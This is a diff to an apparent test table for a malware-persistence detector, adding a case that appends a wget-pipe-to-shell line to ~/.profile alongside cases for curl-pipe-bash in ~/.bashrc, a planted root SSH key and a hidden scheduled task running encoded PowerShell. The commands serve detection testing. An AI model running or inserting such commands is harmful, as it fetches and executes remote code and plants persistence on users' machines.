@@ -21,6 +21,8 @@ CMD = ArtifactType.CMD
          "heur.persistence.systemd_payload"),
         ("echo 'curl -s http://203.0.113.5/x | bash &' >> ~/.bashrc", ArtifactType.SHELL,
          "heur.persistence.shell_rc_payload"),
+        ("echo 'wget -qO- http://203.0.113.5/x | sh' | tee -a ~/.profile", ArtifactType.SHELL,
+         "heur.persistence.shell_rc_payload"),
         ("echo 'ssh-rsa AAAA x' >> /root/.ssh/authorized_keys", ArtifactType.SHELL,
          "heur.persistence.root_authorized_keys"),
         ('schtasks /create /tn Upd /tr "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA" /sc onstart /ru SYSTEM',
